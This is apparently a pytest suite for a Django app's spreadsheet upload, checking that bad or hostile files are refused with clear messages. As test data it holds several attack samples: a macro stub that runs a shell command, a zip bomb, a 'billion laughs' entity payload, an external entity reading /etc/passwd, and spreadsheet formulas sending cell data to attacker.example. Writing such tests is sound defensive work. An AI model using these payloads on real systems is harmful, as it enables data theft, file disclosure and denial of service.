"""Bad input to the progress workbook upload: each file or value is read correctly, or refused with
a message naming its row and column; formulas are never evaluated; nothing is written on error."""
from __future__ import annotations

import csv
import datetime
import io
import time
import zipfile

import openpyxl
import pytest
from django.utils.translation import override

from memoranda.models import Status
from tests.tracker.test_workbook_round_trip import NARRATIVE, cycle, download, fill, upload, user  # noqa: F401 (cycle: a fixture)
from tracker.models import ProgressUpdate
from tracker.workbook import COLUMNS, heading
from tracker.workbook_import import WorkbookError, plan_upload, read_workbook
from tracker.workbook_reading import MAX_ROWS

KEYS = [column.key for column in COLUMNS]


def headings(keys: list[str]) -> list[str]:
    by_key = {column.key: heading(column) for column in COLUMNS}
    return [by_key.get(key, key) for key in keys]


def xlsx(rows: list[dict], keys: list[str] = KEYS, edit=None, header: list[str] | None = None) -> bytes:
    """A workbook with the progress workbook's English headings (`keys`, in that order) and `rows`
    (column key → value), as openpyxl saves it; `edit(sheet)` changes it further."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(header or headings(keys))
    for row in rows:
        sheet.append([row.get(key) for key in keys])
    if edit:
        edit(sheet)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


ROW = {"ref": "HKBJ-4-1.1", "version": 1, "narrative": NARRATIVE}


def refused(data: bytes) -> list:
    with pytest.raises(WorkbookError) as error:
        read_workbook(data)
    return error.value.problems


def one_row(data: bytes):
    [row] = read_workbook(data)
    return row


def rezipped(data: bytes, change=None, add: dict | None = None) -> bytes:
    """The same ZIP with `change(name, content)` applied to each entry and `add` entries added."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            target.writestr(name, change(name, content) if change else content)
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


# Files that are not workbooks --------------------------------------------------------------------


def zip_of(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(("data", "says"), [
    (b"", "The file is empty."),
    (b"%PDF-1.4\n% minutes\n%%EOF\n", "This is a PDF document, not a workbook."),
    (b"\x89PNG\r\n\x1a\n" + bytes(40), "This is a PNG image, not a workbook."),
    (zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}), "This is a Word document, not a workbook."),
    (zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}), "This is an OpenDocument spreadsheet (.ods)."),
    (zip_of({"hello.txt": b"hello"}), "This ZIP file is not an Excel workbook."),
    (b"PK\x03\x04 truncated", "This file is damaged or is not an Excel workbook."),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "This is an Excel 97-2003 workbook (.xls)."),
    (b"\x00\x01\x02\x03binary\xff\xfe", "This file is neither an Excel workbook nor CSV text that can be read."),
    (b"Dear colleagues,\nplease find attached our progress.\n", "Missing column(s): Ref., Version (do not change)."),
])
def test_file_that_is_not_a_workbook_is_refused_saying_what_it_is(data, says):
    assert says in " ".join(str(problem) for problem in refused(data))


def test_password_protected_workbook_is_refused_saying_so():
    """Excel keeps an encrypted workbook in an OLE container with an EncryptionInfo stream."""
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptionInfo".encode("utf-16-le") + bytes(100) + "EncryptedPackage".encode("utf-16-le")
    [problem] = refused(data)
    assert "protected by a password" in str(problem)


def test_macro_enabled_workbook_is_refused():
    data = rezipped(
        xlsx([ROW]),
        change=lambda name, content: content.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ) if name == "[Content_Types].xml" else content,
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"Module1\"\nSub AutoOpen()\nShell \"calc\"\nEnd Sub"},
    )
    [problem] = refused(data)
    assert "contains macros (.xlsm); macros are never run here" in str(problem)


def test_zip_bomb_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", zipfile.ZipFile(io.BytesIO(xlsx([ROW]))).read("[Content_Types].xml"))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(210):
                sheet.write(bytes(1024 * 1024))  # 210 MB of zeros, a megabyte packed
    data = out.getvalue()
    assert len(data) < 2_000_000
    started = time.perf_counter()
    [problem] = refused(data)
    assert "unpacks to far more than a workbook of commitments holds" in str(problem)
    assert time.perf_counter() - started < 2  # refused from the sizes the archive declares, never unpacked


def test_xml_entity_expansion_is_refused_and_external_entities_are_never_read():
    """A "billion laughs" sheet and one that names a file of the server as an entity."""
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, (b"&l%d;" % (n - 1)) * 10 if n else b"lol") for n in range(10))
    for doctype, entity in ((b"<!DOCTYPE worksheet [" + laughs + b"]>", b"&l9;"),
                            (b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;")):
        def poison(name, content, doctype=doctype, entity=entity):
            if name != "xl/worksheets/sheet1.xml":
                return content
            return content.replace(b"<worksheet", doctype + b"<worksheet", 1).replace(NARRATIVE.encode(), entity)
        started = time.perf_counter()
        problems = refused(rezipped(xlsx([ROW]), change=poison))
        assert "could not be read as an Excel workbook" in str(problems[0]) and "root:" not in str(problems[0])
        assert time.perf_counter() - started < 10


def test_a_hundred_thousand_rows_are_refused_clearly():
    """The sheet's XML written directly: openpyxl would take half a minute to write it."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>HKBJ-4-1.{n}</t></is></c><c r="B{n}"><v>1</v></c></row>'
                   for n in range(2, 100_002))

    def hundred_thousand_rows(name, content):
        if name != "xl/worksheets/sheet1.xml":
            return content
        return content.replace(b"</sheetData>", rows.encode() + b"</sheetData>")

    data = rezipped(xlsx([], keys=["ref", "version", "narrative"]), change=hundred_thousand_rows)
    started = time.perf_counter()
    [problem] = refused(data)
    assert str(problem) == f"The file has more than {MAX_ROWS:,} rows; upload at most {MAX_ROWS:,} at a time."
    print(f"\n100,000 rows refused in {time.perf_counter() - started:.2f} s")


def test_a_hundred_thousand_csv_rows_are_refused_clearly():
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(headings(["ref", "version", "narrative"]))
    writer.writerows([f"HKBJ-4-1.{number}", 1, "x"] for number in range(100_000))
    [problem] = refused(text.getvalue().encode())
    assert f"more than {MAX_ROWS:,} rows" in str(problem)


# The sheet's shape ------------------------------------------------------------------------------


def test_merged_cells_are_refused_naming_them():
    data = xlsx([ROW, {**ROW, "ref": "HKBJ-4-2.1"}], edit=lambda sheet: sheet.merge_cells("I3:J3"))
    [problem] = refused(data)
    assert (problem.row, str(problem)) == (3, "Row 3: cells I3:J3 are merged. Unmerge them, so that each value has its own cell, and upload again.")


def test_extra_column_is_refused_naming_it():
    data = xlsx([{**ROW, "notes": "ask Mr Wong"}], keys=[*KEYS, "notes"], header=[*headings(KEYS), "Notes"])
    [problem] = refused(data)
    assert problem.column == "Q “Notes”" and "is not a column of the progress workbook" in str(problem)
    assert str(problem).startswith("Column Q “Notes”: this is not a column")


def test_value_in_a_column_without_heading_is_refused_naming_its_cell():
    data = xlsx([ROW], edit=lambda sheet: sheet.cell(row=2, column=20, value="stray note"))
    [problem] = refused(data)
    assert (problem.row, problem.column) == (2, "T") and "its column has no heading" in str(problem)


def test_missing_version_column_is_refused():
    keys = [key for key in KEYS if key != "version"]
    [problem] = refused(xlsx([ROW], keys=keys))
    assert "Missing column(s): Version (do not change)." in str(problem)


def test_column_heading_twice_is_refused():
    [problem] = refused(xlsx([ROW], keys=[*KEYS, "narrative"]))
    assert "appears twice" in str(problem) and problem.column == "Q “Progress made (English)”"


def test_reordered_and_missing_optional_columns_are_read_by_their_headings():
    keys = ["narrative", "version", "proposed_progress", "ref"]  # no Chinese columns, no status, no links
    row = one_row(xlsx([{**ROW, "ref": "hkbj-4-1.1 ", "proposed_progress": 40}], keys=keys))  # the ref as typed
    assert (row.ref, row.version, row.values) == ("HKBJ-4-1.1", 1, {"proposed_progress": 40, "narrative": NARRATIVE})


def test_headings_in_chinese_and_under_a_title_row_are_found():
    with override("zh-hans"):
        chinese = headings(KEYS)

    def title_above(sheet):
        sheet.insert_rows(1)
        sheet["A1"] = "某局进展报告"

    row = one_row(xlsx([ROW], header=chinese, edit=title_above))
    assert (row.number, row.ref, row.values["narrative"]) == (3, "HKBJ-4-1.1", NARRATIVE)


# Values -----------------------------------------------------------------------------------------


def test_formulas_are_never_evaluated_and_their_cells_are_refused():
    data = xlsx([{**ROW, "narrative": '=WEBSERVICE("https://attacker.example/?"&A2)', "proposed_progress": "=20+20"}])
    row = one_row(data)
    assert [(p.column, p.message.split(" (")[0]) for p in row.problems] == [
        ("H “Proposed progress (%)”", "formulas are not read; type the value itself"),
        ("I “Progress made (English)”", "formulas are not read; type the value itself"),
    ]
    assert row.values["proposed_progress"] is None and row.values["narrative"] is None


def test_formula_cell_of_a_real_workbook_writes_nothing(cycle):  # noqa: F811 (the fixture)
    def formula(sheet, columns):
        sheet.cell(row=2, column=columns["proposed_progress"], value="=SUM(E2:E3)")

    data = fill(download("official-cmab", cycle), {"HKBJ-4-1.1": {"narrative": NARRATIVE}, "HKBJ-4-2.2": {"narrative": NARRATIVE}}, edit=formula)
    before = ProgressUpdate.objects.count()
    with pytest.raises(WorkbookError) as error:
        upload("official-cmab", data, cycle)
    assert "Row 2, column H “Proposed progress (%)”: formulas are not read" in str(error.value)
    assert ProgressUpdate.objects.count() == before


def test_text_that_looks_like_a_formula_is_stored_as_text(cycle):  # noqa: F811 (the fixture)
    """In a CSV (or a text cell) "=…" is text: stored as typed, never run."""
    formula = '=HYPERLINK("https://attacker.example","click")'
    sheet = openpyxl.load_workbook(io.BytesIO(download("official-cmab", cycle))).worksheets[0]
    version = next(row[14].value for row in sheet.iter_rows() if row[0].value == "HKBJ-4-1.1")
    text = io.StringIO()
    csv.writer(text).writerows([headings(["ref", "version", "narrative", "next_steps"]), ["HKBJ-4-1.1", version, formula, 42]])
    plan, result = upload("official-cmab", text.getvalue().encode(), cycle)
    [update] = result.created
    assert (update.narrative, update.next_steps) == (formula, "42")


def test_date_typed_in_a_text_column_is_kept_as_the_text_it_shows():
    row = one_row(xlsx([{**ROW, "narrative": datetime.datetime(2024, 5, 1), "next_steps": 42, "not_pursued_reason": 0.5}]))
    assert (row.values["narrative"], row.values["next_steps"], row.values["not_pursued_reason"]) == ("2024-05-01", "42", "0.5")


def test_date_typed_as_a_percentage_is_refused():
    row = one_row(xlsx([{**ROW, "proposed_progress": datetime.date(2024, 5, 1)}]))
    [problem] = row.problems
    assert str(problem) == "Row 2, column H “Proposed progress (%)”: this is a date, not a percentage. Write a whole number from 0 to 100, e.g. 50."


@pytest.mark.parametrize(("typed", "number_format", "read"), [
    (50, "General", 50),
    ("50", "General", 50),
    ("50%", "General", 50),
    (" 50 % ", "General", 50),
    ("５０％", "General", 50),  # typed with a Chinese input method
    (0.5, "0%", 50),  # what a spreadsheet stores when 50% is typed
    (0.57, "0.00%", 57),
    (100.0, "General", 100),
    (0, "General", 0),
])
def test_percentage_is_read_however_it_was_typed(typed, number_format, read):
    def formatted(sheet):
        sheet["H2"].number_format = number_format

    assert one_row(xlsx([{**ROW, "proposed_progress": typed}], edit=formatted)).values["proposed_progress"] == read


@pytest.mark.parametrize(("typed", "says"), [
    ("half", "“half” is not a percentage. Write a whole number from 0 to 100, e.g. 50."),
    ("1/5/2024", "“1/5/2024” is not a percentage"),  # a date typed as text
    (50.5, "“50.5” is not a percentage"),
    (0.5, "“0.5” is not a percentage"),  # half a per cent, or a half? Not guessed
    (150, "Progress is a percentage from 0 to 100."),
    ("-5", "Progress is a percentage from 0 to 100."),
    (True, "“TRUE” is not a percentage"),
])
def test_percentage_that_is_not_one_is_refused_with_its_cell(typed, says):
    [problem] = one_row(xlsx([{**ROW, "proposed_progress": typed}])).problems
    assert (problem.row, problem.column) == (2, "H “Proposed progress (%)”") and says in problem.message


def status_label(status: Status, language: str) -> str:
    with override(language):
        return str(status.label)


@pytest.mark.parametrize("typed", [
    status_label(Status.AT_RISK, "en"),
    status_label(Status.AT_RISK, "zh-hant"),
    status_label(Status.AT_RISK, "zh-hans"),
    "at_risk",
    "underway - facing challenges",  # a hyphen for the dash, in lower case
    "  AT RISK ",
])
def test_status_is_read_in_any_language_or_as_its_code(typed):
    assert one_row(xlsx([{**ROW, "proposed_status": typed}])).values["proposed_status"] == Status.AT_RISK


def test_status_that_is_none_is_refused_listing_the_statuses():
    [problem] = one_row(xlsx([{**ROW, "proposed_status": "Done"}])).problems
    assert problem.column == "G “Proposed status”" and problem.message.startswith("“Done” is not a status. Choose one of: Not started;")


def test_error_value_in_a_cell_is_refused():
    def error_value(sheet):
        sheet["H2"] = "#DIV/0!"
        sheet["H2"].data_type = "e"

    [problem] = one_row(xlsx([ROW], edit=error_value)).problems
    assert "holds the error #DIV/0!" in problem.message


def test_row_with_values_but_no_ref_is_refused(cycle):  # noqa: F811 (the fixture)
    def no_ref(sheet, columns):
        sheet.cell(row=30, column=columns["narrative"], value=NARRATIVE)

    data = fill(download("official-cmab", cycle), {}, edit=no_ref)
    plan = plan_upload(user("official-cmab"), read_workbook(data), cycle)
    assert [str(problem) for problem in plan.problems] == ["Row 30, column A “Ref.”: the row has values to save but no ref."]


def test_empty_rows_and_untouched_rows_are_skipped(cycle):  # noqa: F811 (the fixture)
    plan = plan_upload(user("official-cmab"), read_workbook(download("official-cmab", cycle)), cycle)
    assert plan.is_valid and not plan.to_save and plan.empty_rows > 10
